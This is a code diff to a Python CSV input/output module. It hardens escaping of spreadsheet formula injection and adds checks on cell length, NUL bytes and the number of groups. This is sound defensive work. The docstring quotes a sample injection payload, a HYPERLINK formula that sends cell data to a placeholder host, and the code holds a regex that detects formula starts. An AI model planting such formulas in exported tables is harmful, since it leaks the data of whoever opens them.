@@ -1,11 +1,12 @@
 """CSV tables in and out: every table biasim writes is safe to open in a spreadsheet, and every
 table it reads has one column per name.
 
-A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is a formula to
-Excel, LibreOffice and Google Sheets: a model's answer or a group label such as
-``=HYPERLINK("http://x?"&A1, "click")`` would run when a reviewer opens ``results.csv``. Such
-cells get a leading ``'`` (the OWASP CSV-injection rule); plain numbers such as ``-0.5`` are left
-as they are. The parquet tables keep every value exactly.
+A cell that starts with ``=``, ``+``, ``-``, ``@`` (or their full-width forms ``＝＋－＠``,
+which spreadsheets fold to them), after any spaces or line breaks, or with a tab or a carriage
+return, is a formula to Excel, LibreOffice and Google Sheets: a model's answer or a group label
+such as ``=HYPERLINK("http://x?"&A1, "click")`` would run when a reviewer opens ``results.csv``.
+Such cells get a leading ``'`` (the OWASP CSV-injection rule); plain numbers such as ``-0.5`` are
+left as they are. The parquet tables keep every value exactly.
 """
 
 from __future__ import annotations
@@ -19,13 +20,14 @@ import pandas as pd
 import pyarrow as pa
 import pyarrow.compute as pc
 
+from biasim.simulator.common.csvlimits import CsvLimits
 from biasim.simulator.common.errors import InputError, Problem
 from biasim.simulator.common.rundir import write_atomic
 
-#: First characters a spreadsheet reads as the start of a formula.
-FORMULA_START = "^[=+\\-@\t\r]"
+#: First characters a spreadsheet reads as the start of a formula (after leading blanks).
+FORMULA_START = "^([ \t\r\n]*[=+\\-@\uff1d\uff0b\uff0d\uff20]|[\t\r])"
 # A number is data, not a formula, even with a sign (`-0.5`, `+3e-2`).
-_NUMBER = r"^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$"
+_NUMBER = r"^ *[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)? *$"
 _FORMULA_RE = re.compile(FORMULA_START)
 _NUMBER_RE = re.compile(_NUMBER)
 
@@ -71,22 +73,30 @@ def write_csv(path: Path, frame: pd.DataFrame) -> None:
     write_atomic(path, lambda tmp: safe.to_csv(tmp, index=False, lineterminator="\r\n"))
 
 
-def read_csv(path: Path, what: str) -> pd.DataFrame:
-    """Read a CSV of text cells (an empty cell is missing); refuse a duplicated column name.
+def read_csv(
+    path: Path, what: str, limits: CsvLimits | None = None, *, empty_is_missing: bool = True
+) -> pd.DataFrame:
+    """Read a CSV of text cells (an empty cell is missing); refuse a duplicated column name or a
+    cell longer than ``limits.max_cell_chars`` or holding a NUL byte (checked while streaming,
+    before pandas holds the file).
 
     Args:
         path: The file.
         what: What the file is, for messages (e.g. ``decisions CSV``).
+        limits: The bounds (default :class:`CsvLimits`).
+        empty_is_missing: Read an empty cell as missing (else as the empty string).
 
     Raises:
-        InputError: Unreadable, not a regular file, or a column name written twice.
+        InputError: Unreadable, not a regular file, a column name written twice, a cell too long
+            or with a NUL byte.
     """
+    limits = limits or CsvLimits()
     if not path.is_file():
         raise InputError(f"{path}: cannot read {what}: not a regular file")
     try:
-        with path.open(encoding="utf-8", newline="") as handle:
-            header = next(csv.reader(handle), [])
-        df = pd.read_csv(path, dtype=str, keep_default_na=False, na_values=[""])
+        header = _check_cells(path, limits.max_cell_chars)
+        missing = [""] if empty_is_missing else []
+        df = pd.read_csv(path, dtype=str, keep_default_na=False, na_values=missing)
     except (OSError, ValueError, UnicodeDecodeError, csv.Error) as exc:
         raise InputError(f"{path}: cannot read {what}: {exc}") from None
     seen: set[str] = set()
@@ -97,3 +107,52 @@ def read_csv(path: Path, what: str) -> pd.DataFrame:
             )
         seen.add(name)
     return df
+
+
+def _check_cells(path: Path, max_chars: int) -> list[str]:
+    """Stream ``path`` once, refusing a cell over ``max_chars``; return the header."""
+    previous = csv.field_size_limit(max_chars)
+    try:
+        with path.open(encoding="utf-8", newline="") as handle:
+            reader = csv.reader(handle)
+            header = next(reader, [])
+            try:
+                for row in reader:
+                    if any("\x00" in cell for cell in row):
+                        raise _located(path, reader.line_num, "a NUL byte in a cell")
+            except csv.Error as exc:
+                if "field larger than field limit" not in str(exc):
+                    raise
+                raise _located(
+                    path,
+                    reader.line_num,
+                    f"a cell longer than the limit of {max_chars:,} characters "
+                    "(--max-cell-chars raises it)",
+                ) from None
+    finally:
+        csv.field_size_limit(previous)
+    return header
+
+
+def _located(path: Path, line: int, message: str) -> InputError:
+    return InputError([Problem(str(path), line, "", message)])
+
+
+def check_group_count(frame: pd.DataFrame, columns: list[str], path: Path, limit: int) -> None:
+    """Refuse more than ``limit`` distinct groups (combinations of ``columns``)."""
+    present = [c for c in columns if c in frame.columns]
+    if not present:
+        return
+    count = len(frame[present].drop_duplicates())
+    if count > limit:
+        raise InputError(
+            [
+                Problem(
+                    str(path),
+                    None,
+                    ",".join(present),
+                    f"{count:,} distinct groups, more than the limit of {limit:,} "
+                    "(--max-groups raises it)",
+                )
+            ]
+        )
